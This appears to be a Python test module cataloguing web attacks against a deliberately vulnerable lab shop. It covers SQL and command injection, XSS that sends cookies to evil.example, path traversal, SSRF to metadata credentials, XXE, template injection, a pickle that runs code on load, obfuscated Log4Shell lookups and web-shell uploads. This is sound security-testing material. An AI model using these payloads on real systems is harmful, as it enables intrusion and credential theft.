# SPDX-License-Identifier: Apache-2.0
"""Attacks that work on the shop. Each names its kind, the requests (the first carries the payload), and a pattern
that is found in the last answer if it worked: what the attacker wanted."""
import base64
import json
from dataclasses import dataclass

from traffic import Shot, get, post_file, post_form, post_json, post_xml


@dataclass(frozen=True)
class Attack:
    kind: str
    name: str
    shots: tuple
    loot: str  # regular expression


def pickle_that_runs(program: str) -> str:
    """A pickle of protocol 0 whose loading calls subprocess.check_output([program])."""
    return base64.b64encode(f"csubprocess\ncheck_output\n((lV{program}\natR.".encode()).decode()


def double_escaped(text: str) -> str:
    """JSON text in which every character is a \\u escape."""
    return "".join(f"\\u{ord(c):04x}" for c in text)


PASSWORDS = r"Xk7-harbour-master"
PASSWD = r"root:x:0:0:[^\n]*"
ID = r"uid=\d+\([\w-]+\)"
UNION = "0 UNION SELECT id, name, password, role, 1 FROM users"
XXE = ('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       "<products><product>&x;</product></products>")
XINCLUDE = ('<products xmlns:xi="http://www.w3.org/2001/XInclude"><product>'
            '<xi:include parse="text" href="file:///etc/passwd"/></product></products>')
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'

ATTACKS = (
    Attack("SQL injection", "passwords by UNION", (get("/product", id=UNION),), PASSWORDS),
    Attack("SQL injection", "the same in comments and mixed case",
           (Shot("GET", "/product?id=0%2f%2a%2a%2fuNiOn%2f%2a%2a%2fsElEcT%2f%2a%2a%2fid,name,password,role,1%2f%2a%2a%2ffRoM%2f%2a%2a%2fusers"),),
           PASSWORDS),
    Attack("SQL injection", "sign-in without a password", (post_form("/login", user="admin'-- ", password="x"),),
           r"Welcome back, admin"),
    Attack("SQL injection", "everything, by a condition that is always true", (get("/search", q="zzz' OR 1=1-- "),), r"6 found"),
    Attack("SQL injection", "passwords through JSON",
           (post_json("/api/cart", json.dumps({"name": "' UNION SELECT name, password FROM users-- ", "quantity": 1})),), PASSWORDS),
    Attack("SQL injection", "the same in \\u escapes",
           (post_json("/api/cart", '{"name": "%s"}' % double_escaped("' UNION SELECT name, password FROM users-- ")),), PASSWORDS),
    Attack("NoSQL injection", "an operator for a password",
           (post_json("/api/login", '{"user": "admin", "password": {"$ne": null}}'),), r'"signed_in": "admin"'),
    Attack("XPath injection", "all salaries", (get("/staff", name="' or '1'='1"),), r"Pelle, Quay 5, 48700"),
    Attack("Cross-site scripting", "script in a search", (get("/search", q="<script>alert(document.cookie)</script>"),),
           r"<script>alert\(document\.cookie\)</script>"),
    Attack("Cross-site scripting", "an event handler", (get("/search", q='<img src=x onerror="alert(1)">'),),
           r'<img src=x onerror="alert\(1\)">'),
    Attack("Cross-site scripting", "SVG, mixed case, no spaces", (get("/search", q="<sVg/oNlOaD=alert`1`>"),), r"<sVg/oNlOaD=alert`1`>"),
    Attack("Cross-site scripting", "stored in a review",
           (post_form("/reviews", product="2", author="Eve", text="<script>fetch('//evil.example/?'+document.cookie)</script>"),
            get("/product", id="2")), r"<script>fetch\('//evil\.example"),
    Attack("Path traversal", "/etc/passwd", (get("/download", file="../" * 12 + "etc/passwd"),), PASSWD),
    Attack("Path traversal", "an absolute path", (get("/download", file="/etc/passwd"),), PASSWD),
    Attack("Path traversal", "keys from the environment", (get("/download", file="/proc/self/environ"),), r"PAYMENT_KEY=[\w-]+"),
    Attack("Command injection", "a second command", (get("/shipping", country="DE; cat /etc/passwd"),), PASSWD),
    Attack("Command injection", "a pipe without spaces", (get("/shipping", country="DE|cat${IFS}/etc/passwd"),), PASSWD),
    Attack("Command injection", "a substitution", (get("/shipping", country="$(id)"),), ID),
    Attack("Command injection", "a line break", (get("/shipping", country="DE\nuname -a"),), r"Linux \S+ \d\S+"),
    Attack("Request forgery", "credentials of an internal service",
           (get("/preview", url="http://127.0.0.1:__INTERNAL__/latest/meta-data/iam/security-credentials/"),), r"internal-only-7f3a"),
    Attack("Request forgery", "the same, the address as one number", (get("/preview", url="http://2130706433:__INTERNAL__/latest/"),),
           r"internal-only-7f3a"),
    Attack("Request forgery", "a file by its URL", (get("/preview", url="file:///etc/passwd"),), PASSWD),
    Attack("XML entities", "a file as an entity", (post_xml("/import", XXE),), PASSWD.replace(r"[^\n]*", "")),
    Attack("XML inclusion", "a file by XInclude", (post_xml("/import", XINCLUDE),), PASSWD.replace(r"[^\n]*", "")),
    Attack("Template injection", "a sum", (get("/hello", name="{{7*191}}"),), r"Ahoy, 1337!"),
    Attack("Template injection", "a program", (get("/hello", name="{{__import__('os').popen('id').read()}}"),), ID),
    Attack("Deserialization", "a pickle that runs a program", (post_form("/cart/restore", saved=pickle_that_runs("id")),), ID),
    Attack("Prototype pollution", "everybody an admin", (post_json("/api/profile", '{"__proto__": {"role": "admin"}}'),),
           r'"role": "admin"'),
    Attack("Prototype pollution", "by the constructor",
           (post_json("/api/profile", '{"constructor": {"prototype": {"newsletter": "pwned"}}}'),), r'"newsletter": "pwned"'),
    Attack("Log4Shell", "a lookup that loads code",
           (Shot("POST", "/support", b"text=hello", {"Content-Type": "application/x-www-form-urlencoded",
                                                      "User-Agent": "${jndi:ldap://127.0.0.1:__LISTENER__/Exploit}"}),), r"class Exploit loaded"),
    Attack("Log4Shell", "the same, hidden in lookups",
           (post_form("/support", text="${${lower:j}${upper:n}di:${lower:l}dap://127.0.0.1:__LISTENER__/Exploit}"),), r"class Exploit loaded"),
    Attack("Log4Shell", "a key from the environment", (post_form("/support", text="${env:PAYMENT_KEY}"),), r"pk-harbour-9921"),
    Attack("Header injection", "a cookie of the attacker's", (get("/go", to="/\r\nSet-Cookie: session=stolen"),),
           r"(?i)set-cookie: session=stolen"),
    Attack("Upload", "a script that the server runs",
           (post_file("/upload", "cat.php", b"#!/bin/sh\n# <?php system('id'); ?>\nid\n", "image/png"), get("/uploads/cat.php")), ID),
    Attack("Upload", "a file outside its folder",
           (post_file("/upload", "../static/owned.svg", b"<svg>owned</svg>", "image/svg+xml"), get("/static/owned.svg")), r"<svg>owned</svg>"),
    Attack("Upload", "a picture with script in it", (post_file("/upload", "logo.svg", SVG, "image/svg+xml"), get("/uploads/logo.svg")),
           r"<script>alert\(document\.domain\)</script>"),
    Attack("Misconfiguration", "secrets in /.env", (get("/.env"),), r"SECRET_KEY=\S+"),
    Attack("Misconfiguration", "credentials in /.git/config", (get("/.git/config"),), r"https://deploy:\w+@"),
    Attack("Misconfiguration", "a backup of the database", (get("/backup.sql"),), PASSWORDS),
    Attack("Information leak", "a stack trace", (get("/report", year="MMXXVI"),), r"Traceback \(most recent call last\)"),
)
